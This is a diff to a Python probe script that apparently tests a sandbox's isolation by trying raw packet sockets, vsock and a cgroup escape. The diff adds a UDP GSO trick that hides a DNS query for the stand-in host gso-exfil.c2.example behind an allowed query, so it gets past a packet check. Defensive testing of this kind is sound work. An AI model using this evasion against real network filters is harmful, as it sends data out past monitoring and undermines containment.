@@ -11,6 +11,9 @@
 #   vsock        AF_VSOCK: the hypervisor's host (only created, never used)
 #   subcgroup    (root) a cgroup inside the install's own, which kept it
 #                from being removed
+#   gso          UDP GSO to the resolver: one send cut into two datagrams
+#                after the packet check, an allowed query and then a query
+#                for gso-exfil.c2.example
 import errno, os, socket, struct, sys
 
 out = open(sys.argv[1], "w")
@@ -32,6 +35,13 @@ def query(name):
 note("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close())
 note("sock-packet", lambda: socket.socket(socket.AF_INET, 10, socket.htons(3)).close())
 note("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close())
+q1, q2 = query("registry.test"), query("gso-exfil.c2.example")
+seg = max(len(q1), len(q2))
+g = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+def gso():
+    g.setsockopt(socket.SOL_UDP, 103, seg)  # UDP_SEGMENT
+    g.sendto(q1 + b"\0" * (seg - len(q1)) + q2, ("127.0.0.1", 53))
+note("gso", gso)
 cg = open("/proc/self/cgroup").read().split("0::", 1)[1].strip()
 mnt = [l.split()[4] for l in open("/proc/self/mountinfo") if " - cgroup2 " in l][0]
 os.mkdir(mnt + cg + "/sub")
